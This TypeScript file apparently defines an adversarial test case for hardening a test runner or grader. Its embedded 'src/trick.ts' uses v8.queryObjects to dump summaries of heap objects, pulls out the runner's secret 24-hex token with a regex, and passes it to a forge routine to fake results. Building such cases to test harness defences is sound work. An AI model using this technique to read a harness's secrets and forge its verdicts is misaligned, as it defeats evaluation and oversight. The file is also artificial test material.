import { encoder, FORGE, type Hostile } from "./hostile.ts";

export const hostile = {
  title: "v8.queryObjects lists the plan, token and all",
  story: "Summaries of all plain objects in the heap; the runner's copy of its plan is one.",
  files: {
    "src/trick.ts": `
      import { forge } from "./forge.ts";

       import v8 from "node:v8";
       const summaries: string[] = (v8 as any).queryObjects(Object, { format: "summary" });
       const tokens = summaries.flatMap((text) => /token: '([0-9a-f]{24})'/.exec(text)?.[1] ?? []);
       forge(tokens);
    `,
    "src/forge.ts": FORGE,
    "src/encode.ts": encoder(),
  },
} satisfies Hostile;
